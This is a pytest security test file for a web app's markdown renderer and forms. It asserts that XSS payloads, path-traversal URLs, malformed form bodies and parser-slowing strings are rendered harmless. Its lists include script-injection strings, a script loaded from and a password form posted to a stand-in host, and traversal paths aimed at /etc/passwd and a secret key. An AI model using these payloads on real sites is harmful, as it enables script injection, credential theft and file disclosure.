"""What must never happen, whatever is typed: code that runs, pages that break, a server that stalls."""

from __future__ import annotations

import time

import pytest
from bs4 import BeautifulSoup

from tests.visitor import Visitor
from tests.world import World
from webapp.markup import LONGEST, html

SAFE_ADDRESSES = ("http:", "https:", "mailto:", "/", "#", "?")

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/track.gif)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a.example "><script>alert(1)</script>")',
    "<p style='position:fixed;inset:0'>over all</p>",
    "<form action=//evil.example><input name=password></form>",
    '"><script>alert(1)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "```\n</code><script>alert(1)</script>\n```",
    "# <script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


def check_harmless(source: str) -> None:
    """Raise where markup could run code, leave the site unasked or fake a form."""
    tree = BeautifulSoup(source, "html.parser")
    for tag in tree.find_all(True):
        assert tag.name not in {"iframe", "object", "embed", "base", "style", "math"}, tag
        assert [] == [name for name in tag.attrs if name.startswith("on") or name == "style"], tag
        for name in ("href", "src", "action"):
            address = str(tag.get(name, "/"))
            assert address.startswith(SAFE_ADDRESSES), address
            assert not address.startswith("//"), address
        assert tag.get("http-equiv") is None
    assert [] == [each for each in tree.find_all("script") if not each.get("src")]


QUESTIONS = (
    "density=%00",
    "sign_language=%00",
    "text_language=%ED%A0%80",
    "density=9&" * 50,
    "%00",
    "level=%F0%9F%A4%9F",
    "density=1&density=5",
    "saved=%00",
    "language=%00",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_never_becomes_code(attack: str) -> None:
    for source in (attack, f"> {attack}", f"- {attack}", f"| a |\n|---|\n| {attack} |"):
        drawn = html(source)
        check_harmless(drawn)
        tree = BeautifulSoup(drawn, "html.parser")
        assert [] == tree.find_all(["script", "img", "svg", "form", "input", "meta"])


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_what_was_typed_is_shown_as_words_everywhere(world: World) -> None:
    cleo = await world.browser_of("cleo")
    attacks = " ".join(ATTACKS).replace("\n", " ")
    typed = {
        "title": '"><script>alert(1)</script>{{ 7*7 }}',
        "summary": attacks[:290],
        "body": "\n\n".join(ATTACKS),
        "language": "en",
        "reading_level": "3",
    }
    page = await cleo.post("/entries", **typed, intent="publish")
    assert 200 == cleo.status
    check_harmless(page.html)
    slug = str(page.one('form[action$="/publication/end"]')["action"]).removesuffix(
        "/publication/end"
    )
    refused = await cleo.post("/entries", **{**typed, "reading_level": "9"})
    assert 422 == cleo.status
    check_harmless(refused.html)
    for path in (slug, f"{slug}?density=1", f"{slug}?density=5", f"{slug}/texts/1", "/", "/entries",
                 "/entries?density=5", "/entries?density=1", "/dashboard", "/dashboard?live=off",
                 f"{slug}/videos/new"):  # fmt: skip
        page = await cleo.get(path)
        assert 200 == cleo.status, path
        check_harmless(page.html)
    assert "{{ 7*7 }}" in (await cleo.get("/dashboard")).words


@pytest.mark.parametrize(
    "bomb",
    ["[", "![", "](", "<", "*a_", "`", "> ", "[a](", "~~a", "<!--"],
)
def test_no_text_takes_long_to_draw(bomb: str) -> None:
    for source in (bomb * (LONGEST // len(bomb)), f"{bomb}\n" * (LONGEST // (len(bomb) + 1))):
        began = time.process_time()
        html(source)
        assert time.process_time() - began < 2, f"{bomb!r} takes too long"


RUBBISH = (
    b"title=%00&body=%00",
    b"title=%ED%A0%80&summary=%ED%B0%80&body=%ED%A0%80",
    b"title=%FF%FE&summary=%C3%28&body=%F0%28%8C%BC",
    b"\xff\xfe\x00",
    b"title=a&title=b&body=" + b"%E2%80%AE" * 50,
    b"=&=&&&;",
    b"title[$ne]=1&__proto__=x&reading_level[]=3",
    b"%00=%00&%FF=1",
    b"reading_level=%D9%A3&language=en%00",
)


async def test_no_form_is_strange_enough_to_break_a_page(world: World) -> None:
    await world.entry()
    cleo = await world.browser_of("cleo")
    for path in ("/entries", "/entries/fire-alarm/texts", "/entries/fire-alarm/texts/1",
                 "/settings", "/sign-up", "/sign-in"):  # fmt: skip
        for rubbish in RUBBISH:
            # Bytes that are no form at all hold no token either, so they may be told as forged.
            assert await status_of(cleo, path, rubbish) in {303, 403, 422}, (path, rubbish)


async def status_of(visitor: Visitor, path: str, body: bytes) -> int:
    """How a form with these bytes is answered; the page that comes is checked."""
    await visitor.ensure_token()
    token = visitor.token
    kind = {"Content-Type": "application/x-www-form-urlencoded"}
    data = f"csrf_token={token}&email=a@b.org&password=x&density=2&".encode() + body
    response = await visitor.client.post(path, data=data, headers=kind)
    if response.status_code != 303:
        await visitor.take(response)
    return int(response.status_code)


STRANGE = (
    "/entries/%00",
    "/entries/a%00b",
    "/entries/%ED%A0%80",
    "/entries/%FF",
    "/entries/..%2F..%2Fetc%2Fpasswd",
    "/entries/" + "x" * 5000,
    "/entries/fire-alarm/texts/99999999999999999999",
    "/entries/fire-alarm/texts/2147483648",
    "/videos/2147483648",
    "/videos/99999999999999999999999",
    "/videos/" + "9" * 5000,
    "/videos/1/files/%00",
    "/videos/99999999999/files/poster.jpg",
    "/videos/1/files/..%2F..%2Fsource",
    "/videos/99999999999/captions/en.vtt",
    "/videos/1/captions/%00.vtt",
    "/videos/99999999999/events",
    "/assets/%00",
    "/assets/..%2F..%2Fsecret_key",
    "/nowhere?density=1",
    "//evil.example/?density=1",
    "/nowhere%20%22%3E?contrast=high",
)


async def test_no_address_is_strange_enough_to_break_a_page(world: World) -> None:
    await world.entry()
    cleo = await world.browser_of("cleo")
    for path in STRANGE:
        page = await cleo.get(path)
        assert 404 == cleo.status, path
        assert "RES_001" in page.words
        check_harmless(page.html)


async def test_no_question_is_strange_enough_to_break_a_page(world: World) -> None:
    await world.entry()
    visitor = world.visitor()
    for query in QUESTIONS:
        for path in ("/", "/entries/fire-alarm", "/settings", "/dashboard"):
            await visitor.get(f"{path}?{query}")
            assert 200 == visitor.status, f"{path}?{query}"
